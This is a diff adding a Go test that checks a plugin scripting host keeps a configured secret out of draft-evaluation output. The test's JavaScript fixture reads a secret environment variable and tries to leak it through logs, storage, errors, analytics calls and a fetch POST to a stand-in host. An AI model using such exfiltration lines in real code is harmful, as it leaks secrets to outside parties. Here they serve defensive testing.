@@ -369,6 +369,43 @@ func TestSavesAreTakenOver(t *testing.T) {
 	r.says("count", "plugin removed")
 }
 
+// What a plugin was granted is told of no draft, wherever that puts it.
+func TestDraftsTellNoSecrets(t *testing.T) {
+	t.Parallel()
+	const secret = "s3cret-of-the-room"
+	for where, place := range places() {
+		t.Run(where, func(t *testing.T) {
+			t.Parallel()
+			r := setUp(t)
+			r.write("count.js", version("old"))
+			r.start(place, func(c scripting.Config) scripting.Config {
+				c.Device = map[string]string{"external_device_id": "kiosk-17"}
+				c.Plugins = map[string]scripting.PluginConfig{"count": {Env: map[string]string{"ROOM": secret}}}
+				return c
+			})
+			r.answer("p0", "count")
+			e := r.host.Editor(scripting.EditorConfig{})
+			text := strings.Replace(version("x"), `console.log("x " + event.callbackId);`, `
+  const room = process.env.ROOM;
+  console.log(room, [room], { room });
+  localStorage.setItem("a" + room, room);
+  fetch("https://example.com/" + room, { headers: { x: room }, body: room, method: "POST" });
+  const next = new AdjustEvent("abc123");
+  next.addCallbackParameter("room", room);
+  Adjust.trackEvent(next);
+  throw new Error(room);`, 1) + "console.log(process.env.ROOM);\n"
+			tried, err := e.Try(r.ctx, scripts.Trial{Draft: draft("count", text)})
+			if told, _ := json.Marshal(tried); err != nil || strings.Contains(string(told), secret) || len(tried.Answers[0].Draft) != 5 {
+				t.Errorf("%v, %s", err, told)
+			}
+			checked, err := e.Check(r.ctx, draft("count", text+"throw new Error(process.env.ROOM);"))
+			if told, _ := json.Marshal(checked); err != nil || strings.Contains(string(told), secret) || checked.OK {
+				t.Errorf("%v, %s", err, told)
+			}
+		})
+	}
+}
+
 func TestTooManyDraftsAtOnce(t *testing.T) {
 	t.Parallel()
 	r := setUp(t)
